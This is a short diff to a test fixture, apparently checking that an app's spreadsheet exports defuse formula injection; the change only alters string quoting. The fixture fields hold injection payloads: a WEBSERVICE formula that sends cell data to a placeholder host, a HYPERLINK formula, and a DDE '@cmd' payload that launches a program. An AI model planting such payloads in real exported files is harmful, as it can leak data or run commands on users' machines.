@@ -61,7 +61,7 @@ def hostile(tree, personas, client_as):
             "period_start": datetime.date(TODAY.year, 3, 1),
             "period_end": datetime.date(TODAY.year, 3, 31),
             "status": VerdictStatus.MISSED,
-            "explanation": "=WEBSERVICE(\"http://x/\"&A1)",
+            "explanation": '=WEBSERVICE("http://x/"&A1)',
             "computed_at": timezone.now(),
         },
     )
@@ -85,7 +85,7 @@ def hostile(tree, personas, client_as):
         f"/inspections/{plan.pk}/targets/{target.pk}/",
         {
             "found_on": TODAY.isoformat(),
-            "description": "=HYPERLINK(\"http://x\",\"问题\")",
+            "description": '=HYPERLINK("http://x","问题")',
             "rule_id": "MTG-04",
             "task_1": "@cmd|' /C calc'!A0",
             "owner_1": member.pk,
